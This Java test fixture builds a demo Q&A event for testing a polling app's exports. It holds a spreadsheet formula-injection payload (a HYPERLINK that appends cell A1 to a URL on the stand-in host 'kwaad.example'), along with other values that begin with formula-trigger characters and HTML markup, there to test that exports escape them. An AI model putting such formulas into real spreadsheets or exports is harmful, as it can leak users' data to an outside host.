package org.rondvraag.export;

import io.vertx.core.Vertx;
import io.vertx.core.json.JsonArray;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.BitSet;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.rondvraag.room.Archives;
import org.rondvraag.room.EventFile;
import org.rondvraag.shared.BallotId;
import org.rondvraag.shared.Language;
import org.rondvraag.shared.Messages;
import org.rondvraag.shared.PollId;
import org.rondvraag.shared.QuestionId;
import org.rondvraag.store.Ballot;
import org.rondvraag.store.Doc;
import org.rondvraag.store.DocId;
import org.rondvraag.store.PollRound;
import org.rondvraag.web.Assets;
import org.rondvraag.web.PageShell;
import org.rondvraag.web.Views;

/** The demo event after an hour, with what people write when they mean well, and when they do not. */
final class StudyDay {
    static final String FORMULA = "=HYPERLINK(\"http://kwaad.example/?\"&A1,\"Klik hier\")";
    static final String HARD = "Kost dit één € of twee; =1+1\nen wie zei \"nee\", <b>Bart</b> & ’t Kofschip?";
    static final String EMOJI = "Fietsen \uD83D\uDEB2 of \u05E9\u05DC\u05D5\u05DD?";
    static final String WITHDRAWN = "Dit had ik niet moeten vragen";

    /** 21 June 2022, 12:31:05 in Ghent. */
    static final long AT = Instant.parse("2022-06-21T10:31:05Z").toEpochMilli();

    static final Instant NOW = Instant.parse("2022-06-21T22:30:00Z");

    private final List<Doc> docs = new ArrayList<>();
    private final Map<QuestionId, BitSet> votes = new HashMap<>();
    private final Map<PollRound, Map<Integer, Ballot>> ballots = new HashMap<>();
    private long version = 1;

    /** The whole hour. */
    static StudyDay whole() {
        StudyDay day = new StudyDay();
        day.question(
                "question-formula", FORMULA, 3, "status", "answered", "answeredAt", AT + 300_000, "spent", 192_400L);
        day.question(
                "question-hard",
                HARD,
                7,
                "by",
                "+32 An",
                "to",
                new JsonArray().add("p9").add("p10"));
        day.question("question-merged", "-1 voor wie dit anders zegt", 2, "status", "merged", "into", "question-hard");
        day.question(
                "question-emoji",
                EMOJI,
                12,
                "labels",
                new JsonArray().add("#fiets").add("@later"));
        day.question("question-rude", "Onzin!", 1, "status", "dismissed", "reason", "-2+3 reden");
        day.question("question-gone", WITHDRAWN, 1, "status", "withdrawn");
        day.change("question", "question-hard", "merged", new JsonArray().add("question-merged"));
        day.poll("k1", 1, "closed");
        day.poll("k3", 2, "open");
        day.ballots("k1", 1, List.of("o1"), List.of("o1"), List.of("o3"), "abstain");
        day.ballots("k3", 1, List.of("o2"));
        day.action("action-one", "question.dismiss", "Onzin!", null);
        day.action("action-two", "undo", null, "action-one");
        return day;
    }

    static String demo() {
        try (InputStream in = StudyDay.class.getResourceAsStream("/demo/gent22.json")) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** The id of the participant who asked or answered as number {@code n}. */
    static String participant(int n) {
        return "participant-secret-" + n;
    }

    Results results() {
        return Results.of(Archives.of(EventFile.parse(demo()), docs, votes, ballots));
    }

    byte[] export(Subject subject, Format format) {
        return export(subject, format, Language.NL);
    }

    byte[] export(Subject subject, Format format, Language language) {
        return file(subject, format, language).body().getBytes();
    }

    String text(Subject subject, Format format) {
        return new String(export(subject, format), StandardCharsets.UTF_8);
    }

    Export file(Subject subject, Format format, Language language) {
        try {
            Vertx none = null;
            Messages messages = Messages.load();
            Views views = new Views(none, messages);
            InstantSource clock = InstantSource.fixed(NOW);
            return new Exports(none, views, new PageShell(Assets.load()), messages, clock)
                    .write(results(), subject, format, language);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A question asked in the panel by a participant of its own; open, but as the members say. */
    void question(String id, String text, int supporters, Object... members) {
        JsonObject body = new JsonObject()
                .put("text", text)
                .put("item", "i13")
                .put("asked", AT + docs.size())
                .put("at", AT + docs.size())
                .put("author", participant(docs.size()))
                .put("status", "open");
        put("question", id, with(body, members));
        BitSet bits = new BitSet();
        bits.set(1, supporters + 1);
        votes.put(new QuestionId(id), bits);
    }

    void poll(String id, int round, String status) {
        change("poll", id, "round", round, "status", status, "openedAt", AT);
    }

    /** One ballot each, of participants numbered from 1. */
    void ballots(String poll, int round, Object... answers) {
        Map<Integer, Ballot> cast = new HashMap<>();
        for (int number = 1; number <= answers.length; number++) {
            Object answer = answers[number - 1] instanceof List<?> list ? new JsonArray(list) : answers[number - 1];
            BallotId id = new BallotId("ballot-secret-" + number);
            cast.put(number, new Ballot(new PollId(poll), round, number, id, answer, AT));
        }
        ballots.put(new PollRound(new PollId(poll), round), cast);
    }

    void action(String id, String command, String what, String undoes) {
        put(
                "action",
                id,
                with(
                        new JsonObject(),
                        "at",
                        AT,
                        "crew",
                        "crew-secret",
                        "who",
                        "@Nele",
                        "do",
                        command,
                        "what",
                        what,
                        "undoes",
                        undoes,
                        "touched",
                        new JsonArray()));
    }

    /** Changes members of a document that is there, here or in the demo's file. */
    void change(String kind, String id, Object... members) {
        JsonObject body = docs.stream()
                .filter(doc -> doc.id().equals(new DocId(kind, id)))
                .map(Doc::body)
                .findFirst()
                .orElseGet(() -> entry(kind + "s", id));
        docs.removeIf(doc -> doc.id().equals(new DocId(kind, id)));
        put(kind, id, with(body.copy(), members));
    }

    void remove(String kind, String id) {
        put(kind, id, new JsonObject().put("deleted", true));
    }

    private static JsonObject entry(String list, String id) {
        return new JsonObject(demo())
                .getJsonArray(list).stream()
                        .map(JsonObject.class::cast)
                        .filter(entry -> entry.getString("id").equals(id))
                        .findFirst()
                        .orElseThrow();
    }

    private void put(String kind, String id, JsonObject body) {
        docs.add(new Doc(new DocId(kind, id), ++version, body));
    }

    private static JsonObject with(JsonObject body, Object... members) {
        for (int i = 0; i < members.length; i += 2) {
            if (members[i + 1] != null) {
                body.put((String) members[i], members[i + 1]);
            }
        }
        return body;
    }
}
